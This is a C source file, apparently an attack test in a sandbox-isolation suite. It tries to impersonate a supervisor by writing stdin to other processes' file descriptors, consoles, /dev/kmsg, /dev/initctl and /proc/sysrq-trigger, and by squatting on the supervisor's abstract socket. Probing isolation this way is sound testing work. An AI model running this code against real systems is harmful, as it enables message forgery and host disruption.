/* Speaks as the supervisor wherever it can: writes what comes on its input to every descriptor of every other process,
 * to consoles and terminals, and to the supervisor's own socket. Prints the places that took it, and whether it has
 * tried many. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include "attack.h"

#define DESCRIPTORS 64

static char forged[65536];
static size_t length;
static int tried;

static void take_input(void)
{
	ssize_t got;

	while ((got = read(0, forged + length, sizeof(forged) - length)) > 0)
		length += (size_t)got;
}

static void try_place(const char *path)
{
	int fd = open(path, O_WRONLY | O_NONBLOCK | O_NOCTTY);

	tried++;
	if (fd >= 0 && write(fd, forged, length) > 0)
		printf("%s\n", path);
	close(fd);
}

static void try_process(const char *pid)
{
	char path[64];

	for (int fd = 0; fd < DESCRIPTORS; fd++) {
		snprintf(path, sizeof(path), "/proc/%.16s/fd/%d", pid, fd);
		try_place(path);
		snprintf(path, sizeof(path), "/proc/%.16s/task/%.16s/fd/%d", pid, pid, fd);
		try_place(path);
	}
}

static void try_processes(void)
{
	DIR *list = opendir("/proc");
	struct dirent *entry;

	while (list && (entry = readdir(list)))
		if (atoi(entry->d_name) && atoi(entry->d_name) != getpid())
			try_process(entry->d_name);
	if (list)
		closedir(list);
}

static void try_devices(void)
{
	static const char *const devices[] = {
		"/dev/console", "/dev/tty", "/dev/tty0", "/dev/tty1", "/dev/ttyS0", "/dev/kmsg", "/dev/pts/0",
		"/dev/fd/3", "/dev/initctl", "/run/initctl", "/proc/kmsg", "/proc/sysrq-trigger",
	};

	for (size_t i = 0; i < sizeof(devices) / sizeof(devices[0]); i++)
		try_place(devices[i]);
	/* What a command was given by its reaper, beyond its own three. */
	for (int fd = 3; fd < DESCRIPTORS; fd++) {
		tried++;
		if (write(fd, forged, length) > 0 || send(fd, forged, length, MSG_NOSIGNAL) > 0)
			printf("inherited %d\n", fd);
	}
}

/* The supervisor hangs up on whoever is not of its user; a name that is taken cannot be taken over. */
static void try_socket(void)
{
	static const char name[] = "\0fumehood";
	struct sockaddr_un address = {.sun_family = AF_UNIX};
	socklen_t size = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + sizeof(name) - 1);
	int caller = socket(AF_UNIX, SOCK_STREAM, 0), owner = socket(AF_UNIX, SOCK_STREAM, 0);
	char answer[64];

	tried += 2;
	memcpy(address.sun_path, name, sizeof(name) - 1);
	if (bind(owner, (struct sockaddr *)&address, size) == 0)
		printf("the socket's name\n");
	if (connect(caller, (struct sockaddr *)&address, size) < 0)
		printf("no socket\n");
	(void)send(caller, forged, length, MSG_NOSIGNAL);
	if (recv(caller, answer, sizeof(answer), 0) > 0)
		printf("an answer\n");
}

ATTACK(forge)(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	signal(SIGPIPE, SIG_IGN);
	take_input();
	try_devices();
	try_processes();
	try_socket();
	printf("%zu bytes, %s\n", length, tried > 300 ? "many places" : "few places");
	return 0;
}
